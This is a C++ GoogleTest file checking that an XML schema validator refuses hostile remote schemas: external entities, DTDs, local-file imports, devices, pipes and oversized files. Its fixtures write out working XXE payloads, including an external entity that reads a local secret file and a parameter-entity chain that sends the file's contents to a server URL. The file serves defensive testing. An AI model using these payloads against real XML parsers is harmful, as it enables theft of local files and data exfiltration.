// Schemas from a hostile server: entities and DTDs are never loaded, a remote schema cannot name
// a local file, and the compiled set holds what was logged as added.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <libxml/xmlIO.h>

#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <mutex>

#include "validation/engine.h"
#include "validation/resolution.h"
#include "validation/schema_sources.h"
#include "validation/validation_fixture.h"

namespace vx {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

// Every resource libxml2 tries to open goes past this handler first (the last one registered is
// asked first); it records the name and lets the real handlers answer.
std::vector<std::string>& OpenedUris() {
  static std::vector<std::string> uris;
  return uris;
}
int RecordUri(const char* uri) {
  OpenedUris().push_back(uri != nullptr ? uri : "");
  return 0;
}
void InstallRecorder() {
  static std::once_flag once;
  std::call_once(once, [] {
    InstallSchemaInputHandlers();
    xmlRegisterInputCallbacks(&RecordUri, nullptr, nullptr, nullptr);
  });
  OpenedUris().clear();
}

// Counts the opens of files in one folder (inotify), whoever opens them.
class OpenWatch {
 public:
  explicit OpenWatch(const std::string& folder) : FFd(::inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) {
    EXPECT_GE(::inotify_add_watch(FFd, folder.c_str(), IN_OPEN), 0);
  }
  ~OpenWatch() { ::close(FFd); }
  int Opens() const {
    int count = 0;
    alignas(inotify_event) char buffer[4096];
    for (ssize_t n; (n = ::read(FFd, buffer, sizeof buffer)) > 0;) {
      for (char* p = buffer; p < buffer + n;
           p += sizeof(inotify_event) + reinterpret_cast<inotify_event*>(p)->len)
        ++count;
    }
    return count;
  }

 private:
  int FFd;
};

constexpr char kSecret[] = "SEKRET-7f3a9c";

class HostileSchemaTest : public test::ValidationTest {
 protected:
  HostileSchemaTest() {
    InstallRecorder();
    secretPath = (dir.path() / "secret.txt").string();
    test::WriteFile(secretPath, kSecret);
  }
  void Add(const std::string& ns, const std::string& location) { wAdd(run, Utf8ToU(ns), Utf8ToU(location)); }
  static UString Validate(const std::string& xml) { return IsXML_Valid(Utf8ToU(xml), u"", u""); }
  bool Leaked() const {
    for (const auto& t : log.Texts())
      if (t.find(kSecret) != std::string::npos) return true;
    for (const auto& r : server.Requests())
      if (r.query.find(kSecret) != std::string::npos || r.path.find(kSecret) != std::string::npos)
        return true;
    return false;
  }
  bool OpenedSecret() const {
    for (const auto& u : OpenedUris())
      if (u.find("secret.txt") != std::string::npos) return true;
    return false;
  }
  std::string WithDoctype(const std::string& subset, const std::string& body) {
    return "<?xml version=\"1.0\"?>\n<!DOCTYPE xsd:schema [" + subset +
           "]>\n<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"urn:x\">" +
           body + "</xsd:schema>";
  }

  TValidationRun run;
  std::string secretPath;
};

TEST_F(HostileSchemaTest, ExternalEntitiesAndDtdsAreNeverLoaded) {
  const std::string file = "file://" + secretPath;
  Publish("evil.dtd", "<!ENTITY secret SYSTEM \"" + file + "\">");
  // The parameter-entity route that carries a file's content to a third address.
  Publish("leak.dtd", "<!ENTITY % file SYSTEM \"" + file +
                          "\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '" + server.Url("/leak?d=") +
                          "%file;'>\">%eval;%exfil;");
  const std::string element = "<xsd:element name=\"a\" type=\"xsd:string\" fixed=\"&secret;\"/>";
  const std::vector<std::string> locations = {
      Publish("dtd.xsd",
              WithDoctype("<!ENTITY % ext SYSTEM \"" + server.Url("/evil.dtd") + "\"> %ext;", element)),
      Publish("pe.xsd", WithDoctype("<!ENTITY % ext SYSTEM \"" + server.Url("/leak.dtd") + "\"> %ext;",
                                    "<xsd:element name=\"b\"/>")),
      Publish("direct.xsd", WithDoctype("<!ENTITY secret SYSTEM \"" + file + "\">", element)),
      Publish("subset.xsd", "<?xml version=\"1.0\"?><!DOCTYPE xsd:schema SYSTEM \"" +
                                server.Url("/evil.dtd") +
                                "\"><xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" "
                                "targetNamespace=\"urn:x\"><xsd:element name=\"c\"/></xsd:schema>"),
      // The same, one include further down.
      Publish("outer.xsd", Schema("urn:x", "<xsd:include schemaLocation=\"direct.xsd\"/>")),
  };
  for (const std::string& location : locations) Add("urn:x", location);
  EXPECT_EQ(server.RequestCount("/evil.dtd"), 0);
  EXPECT_EQ(server.RequestCount("/leak.dtd"), 0);
  EXPECT_EQ(server.RequestCount("/leak"), 0);
  EXPECT_FALSE(OpenedSecret());
  EXPECT_FALSE(Leaked());
  // A schema that uses an entity it could not load is refused; one that merely names a DTD is not.
  std::vector<std::string> registered;
  for (const auto& r : run.registered) registered.push_back(UToUtf8(r));
  EXPECT_THAT(registered, ElementsAre(locations[1], locations[3]));

  // Through the whole validation: the result never carries the file either.
  const UString result = Validate("<x:a xmlns:x=\"urn:x\">v</x:a>");
  EXPECT_EQ(UToUtf8(result).find(kSecret), std::string::npos);
}

TEST_F(HostileSchemaTest, InternalEntitiesOfASchemaStillWork) {
  const std::string ns = server.Url("/ns/int/");
  Publish("ns/int/index.html", "<html><a href=\"./int.xsd\">x</a></html>");
  Publish("ns/int/int.xsd",
          "<?xml version=\"1.0\"?>\n<!DOCTYPE xsd:schema [<!ENTITY tns \"" + ns +
              "\">]>\n<xsd:schema xmlns:xsd=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"&tns;\">"
              "<xsd:element name=\"a\" type=\"xsd:int\"/></xsd:schema>");
  EXPECT_EQ(Validate("<a xmlns=\"" + ns + "\">12</a>"), u"");
  EXPECT_NE(Validate("<a xmlns=\"" + ns + "\">x</a>"), u"");
}

TEST_F(HostileSchemaTest, ARemoteSchemaCannotNameALocalFile) {
  const std::string localDir = (dir.path() / "local").string();
  std::filesystem::create_directories(localDir);
  test::WriteFile(localDir + "/s.xsd", Schema("urn:s", "<xsd:element name=\"s\"/>"));
  const std::string import = "<xsd:import namespace=\"urn:s\" ";
  const std::vector<std::string> remote = {
      Publish("r1.xsd", Schema("urn:x", import + "schemaLocation=\"file://" + localDir + "/s.xsd\"/>")),
      Publish("r2.xsd", Schema("urn:x", import + "schemaLocation=\"" + localDir + "/s.xsd\"/>")),
      Publish("r3.xsd",
              Schema("urn:x", import + "xml:base=\"file://" + localDir + "/\" schemaLocation=\"s.xsd\"/>")),
      Publish("r4.xsd", Schema("urn:x", "<xsd:include schemaLocation=\"file:///dev/zero\"/>")),
      Publish("r5.xsd", Schema("urn:x", "<xsd:include schemaLocation=\"file:///dev/stdin\"/>")),
  };
  OpenWatch watch(localDir);
  for (const std::string& location : remote) Add("urn:x", location);
  EXPECT_EQ(watch.Opens(), 0);
  // r2's plain path is read as a path on the schema's own server, as the compiler resolves it.
  EXPECT_EQ(server.RequestCount(localDir + "/s.xsd"), 1);

  // A page's link that is no web address is left out without a dialog.
  Publish("ns/p/index.html", "<html><a href=\"file://" + localDir + "/s.xsd?&https:\">x</a></html>");
  dialogs->answers.clear();
  Add("", server.Url("/ns/p/"));
  EXPECT_EQ(log.Count("Walidacja XML: Pominięto położenie \"file://" + localDir), 1);
  EXPECT_EQ(log.Count("Walidacja XML: Dodanie"), 0);
}

TEST_F(HostileSchemaTest, LocalSchemasReadOnlyRegularFilesWithinTheBound) {
  const auto local = dir.path() / "local";
  std::filesystem::create_directories(local);
  test::WriteFile(local / "part.xsd", Schema("urn:l", "<xsd:element name=\"p\"/>"));
  test::WriteFile(local / "main.xsd", Schema("urn:l", "<xsd:include schemaLocation=\"part.xsd\"/>"));
  test::WriteFile(local / "zero.xsd", Schema("urn:z", "<xsd:include schemaLocation=\"file:///dev/zero\"/>"));
  test::WriteFile(local / "big.xsd", Schema("urn:b", "<xsd:element name=\"b\"/>"));
  ASSERT_EQ(::mkfifo((local / "fifo.xsd").c_str(), 0600), 0);
  test::WriteFile(local / "pipe.xsd", Schema("urn:f", "<xsd:include schemaLocation=\"fifo.xsd\"/>"));
  Add("urn:l", (local / "main.xsd").string());  // a local schema may include a local file
  Add("urn:z", (local / "zero.xsd").string());  // a device: refused at once
  Add("urn:f", (local / "pipe.xsd").string());  // a pipe nobody writes to: refused, no wait
  {
    test::ScopedEnv bound("VX64_DOWNLOAD_MAX_BYTES", "100");
    Add("urn:b", (local / "big.xsd").string());  // larger than 100 bytes
  }
  std::vector<std::string> registered;
  for (const auto& r : run.registered) registered.push_back(UToUtf8(r));
  EXPECT_THAT(registered, ElementsAre((local / "main.xsd").string()));
}

// Namespace A's schema imports B from b1.xsd; B's page lists b1.xsd and b2.xsd. Whatever the order
// of the document's declarations, b2.xsd is in the compiled set once it is logged as added.
TEST_F(HostileSchemaTest, EverySchemaLoggedAsAddedIsCompiledWhateverTheOrder) {
  const std::string a = server.Url("/ns/a/");
  const std::string b = server.Url("/ns/b/");
  Publish("ns/a/index.html", "<html><a href=\"./a.xsd\">a</a></html>");
  Publish("ns/a/a.xsd", Schema(a, "<xsd:import namespace=\"" + b + "\" schemaLocation=\"" + b +
                                      "b1.xsd\"/><xsd:element name=\"root\"><xsd:complexType><xsd:sequence>"
                                      "<xsd:any namespace=\"##other\" processContents=\"strict\"/>"
                                      "</xsd:sequence></xsd:complexType></xsd:element>"));
  Publish("ns/b/index.html", "<html><a href=\"./b1.xsd\">1</a><a href=\"./b2.xsd\">2</a></html>");
  Publish("ns/b/b1.xsd", Schema(b, "<xsd:element name=\"one\"/>"));
  Publish("ns/b/b2.xsd", Schema(b, "<xsd:element name=\"two\"/>"));
  for (const std::string& declarations :
       {"xmlns:a=\"" + a + "\" xmlns:b=\"" + b + "\"", "xmlns:b=\"" + b + "\" xmlns:a=\"" + a + "\""}) {
    log.lines.clear();
    EXPECT_EQ(Validate("<a:root " + declarations + "><b:two/></a:root>"), u"") << declarations;
    EXPECT_TRUE(
        log.Has("Walidacja XML: Dodanie przestrzeni nazw: \"" + b + "\" plik XSD: \"" + b + "b2.xsd\"."));
    EXPECT_NE(Validate("<a:root " + declarations + "><b:three/></a:root>"), u"") << declarations;
  }
}

// One namespace imported from two locations is legal: the second import is skipped (warning
// 3083), not an error. An import whose schema cannot be found (3084) still is one.
TEST_F(HostileSchemaTest, ASkippedSecondImportIsNotARegistrationError) {
  const std::string b1 = Publish("imp/b1.xsd", Schema("urn:b", "<xsd:element name=\"one\"/>"));
  const std::string b2 = Publish("imp/b2.xsd", Schema("urn:b", "<xsd:element name=\"two\"/>"));
  const std::string imports = "<xsd:import namespace=\"urn:b\" schemaLocation=\"" + b1 +
                              "\"/><xsd:import namespace=\"urn:b\" schemaLocation=\"" + b2 + "\"/>";
  const std::string twice = Publish("imp/a.xsd", Schema("urn:a", imports + "<xsd:element name=\"a\"/>"));
  const std::string missing = Publish(
      "imp/m.xsd", Schema("urn:m", "<xsd:import namespace=\"urn:b\" schemaLocation=\"" +
                                       server.Url("/imp/none.xsd") + "\"/><xsd:element name=\"m\"/>"));
  dialogs->answers = {"no"};
  Add("urn:a", twice);
  Add("urn:m", missing);
  std::vector<std::string> registered;
  for (const auto& r : run.registered) registered.push_back(UToUtf8(r));
  EXPECT_THAT(registered, ElementsAre(twice));
  EXPECT_THAT(dialogs->shown, ElementsAre(HasSubstr(missing)));
}

}  // namespace
}  // namespace vx
